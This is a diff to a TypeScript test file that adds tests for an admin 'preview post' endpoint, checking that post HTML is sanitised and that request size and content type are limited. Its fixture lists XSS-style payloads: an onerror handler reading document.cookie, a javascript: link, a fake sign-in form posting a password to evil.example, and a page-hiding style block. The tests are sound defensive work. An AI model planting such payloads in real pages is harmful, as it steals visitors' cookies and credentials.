@@ -17,6 +17,7 @@ import * as documentRoute from "../../src/pages/api/admin/documents/[kind]/[id]"
 import * as activateRoute from "../../src/pages/api/admin/documents/[kind]/[id]/activate";
 import * as overviewRoute from "../../src/pages/api/admin/overview";
 import * as previewPostRoute from "../../src/pages/api/admin/preview/post";
+import { sanitizePostHtml } from "../../src/server/content/sanitize-html";
 import * as uploadsRoute from "../../src/pages/api/admin/uploads";
 import * as uploadRoute from "../../src/pages/api/admin/uploads/[token]";
 import { authDeps, type AuthDeps } from "../../src/server/auth/auth-deps";
@@ -373,5 +374,60 @@ describe("the admin through the routes", () => {
       const response = await callRoute(client, route, path, params, { method, body: bodyFor(method) });
       expect(response.status, `${method} ${path}`).toBe(404);
     }
+  });
+});
+
+/** What a post written outside the admin put into the owner's admin page. */
+const HOSTILE = {
+  "an image with an onerror handler": '<p>Before</p><img src="/x.png" alt="x" onerror="alert(document.cookie)">',
+  "a javascript: link": '<p><a href="javascript:alert(1)">Read more</a></p>',
+  "a form posting elsewhere":
+    '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in again</button></form>',
+  "a live style element": "<style>body { display: none } .admin * { color: red }</style><p>Styled</p>",
+};
+
+/**
+ * The admin's 'Preview' of a post gets the post's HTML back sanitised by the public pages' own
+ * policy, so that HTML written outside the admin (SQL, a table editor) never runs in the owner's
+ * admin page. Its access rules are the ENDPOINTS table's.
+ */
+describe("POST /api/admin/preview/post", () => {
+  const preview = (client: AuthClient, call: Omit<Call, "method">) =>
+    callRoute(client, previewPostRoute, "/api/admin/preview/post", {}, { method: "POST", ...call });
+
+  it.each(Object.entries(HOSTILE))("answers %s sanitised by the public pages' policy", async (_name, html) => {
+    const response = await preview(await signedIn(accounts.owner), { body: { html } });
+    expect(response.status).toBe(200);
+    expect(response.headers.get("cache-control")).toBe("no-store");
+    const answer = await bodyOf(response);
+    expect(answer).toEqual({ html: sanitizePostHtml(html) });
+    const clean = answer.html as string;
+    expect(clean).not.toMatch(/onerror/i);
+    expect(clean).not.toMatch(/javascript:/i);
+    expect(clean).not.toMatch(/<form|<input|<button/i);
+    expect(clean).not.toMatch(/<style|display: none/i);
+  });
+
+  it("keeps what a post may hold", async () => {
+    const html =
+      '<h2>Gearbox</h2><p>It <strong>works</strong>, <a href="https://example.com">see</a>.</p><img src="/storage/v1/object/public/documents/images/1-a.png" alt="A gear" width="640" height="480">';
+    const response = await preview(await signedIn(accounts.owner), { body: { html } });
+    expect(response.status).toBe(200);
+    expect(await bodyOf(response)).toEqual({
+      html: '<h2>Gearbox</h2><p>It <strong>works</strong>, <a href="https://example.com" rel="noopener noreferrer">see</a>.</p><img src="/storage/v1/object/public/documents/images/1-a.png" alt="A gear" width="640" height="480" loading="lazy" decoding="async" />',
+    });
+  });
+
+  it("limits the body like the other admin endpoints: 413 past 512 KB, 415 unless JSON, 400 without html", async () => {
+    const client = await signedIn(accounts.owner);
+    const large = await preview(client, { body: { html: `<p>${"a".repeat(600 * 1024)}</p>` } });
+    expect(large.status).toBe(413);
+    const text = await preview(client, { raw: "html=<p>x</p>", headers: { "content-type": "text/plain" } });
+    expect(text.status).toBe(415);
+    const missing = await preview(client, { body: {} });
+    expect(missing.status).toBe(400);
+    const tooLong = await preview(client, { body: { html: "a".repeat(50_001) } });
+    expect(tooLong.status).toBe(400);
+    expect(await bodyOf(tooLong)).toEqual({ error: "Content is too long" });
   });
 });
